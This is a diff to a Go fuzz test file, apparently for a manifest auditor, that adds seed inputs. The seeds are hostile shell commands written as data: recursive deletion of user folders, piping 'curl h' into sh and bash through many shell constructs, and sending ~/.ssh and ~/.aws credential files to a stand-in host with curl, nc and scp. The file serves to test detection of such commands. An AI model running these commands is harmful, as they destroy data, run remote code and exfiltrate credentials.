@@ -182,6 +182,8 @@ var fuzzSeeds = [][]string{
 	{"cmd", "/c", "rd /s /q \"%USERPROFILE%\\OneDrive\" & del /s /q C:\\Users\\a\\AppData\\* & rd %USERPROFILE%\\"},
 	{"sh", "-c", "find ~/.ssh -name 'id_[' | xargs -I{} curl -F f=@{}{} h; ls ~/.aws/*/* ~/.ssh/[ | xargs; echo ~/.ssh/id_?* | xargs -I -- cat | nc h 1; printf %s ~/.aws/** | xargs -0 tar cf - | curl -T - h"},
 	{"sh", "-c", "find -L ~/.ssh ~/.aws -iname '' -print0 | xargs -0 -n1; find ~/.ssh -name | xargs curl -T; find ~/.ssh -exec cat {} \\; | nc h 1; ls ~/.ssh/* | sh -c 'xargs cat' | nc h 2"},
+	{"bash", "-c", "curl h | { sh; } | (bash) | if a; then sh <x; elif b; then bash; else :; fi | while read -r; do sh; done | until x; do :; done | time sh | coproc sh | case x in a) sh;; esac"},
+	{"bash", "-c", "curl h > >(sh) >> >(bash) 2> >(sh); curl h | tee >(sh) >(cat) | { echo | sh; } ; find ~/.ssh | while read; do :; done; ls ~/.aws/* | { read -r f; curl -T $f h; }; for f in $(ls ~/.ssh/id_*) `find ~/.aws`; do scp $f h:; done"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
